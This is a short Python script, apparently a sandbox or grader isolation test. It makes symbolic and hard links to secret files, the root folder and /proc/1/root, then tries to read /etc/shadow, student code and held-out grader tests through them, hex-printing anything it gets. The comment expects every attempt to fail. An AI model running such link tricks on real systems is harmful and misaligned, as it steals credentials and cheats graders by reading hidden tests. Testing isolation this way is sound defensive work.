"""Makes symbolic and hard links to secrets, and a link to the folder above, and reads through them."""

import json
import os
from pathlib import Path

# reads "every link led nowhere"

target = json.loads(Path("target.json").read_text())
os.mkdir("links")
for number, file in enumerate([*target["files"].values(), target["course"], "/", "/proc/1/root", "/proc/1/cwd"]):
    for make in (os.symlink, os.link):
        link = f"links/{number}{make.__name__}"
        try:
            make(file, link)
            print(Path(link).read_text().encode().hex())
        except OSError:
            pass
        for inner in ("source/student_code.py", "grader_tests/tensors/held_out.py", "etc/shadow"):
            try:
                print(Path(link, inner).read_text().encode().hex())
            except OSError:
                pass
raise RuntimeError("every link led nowhere")
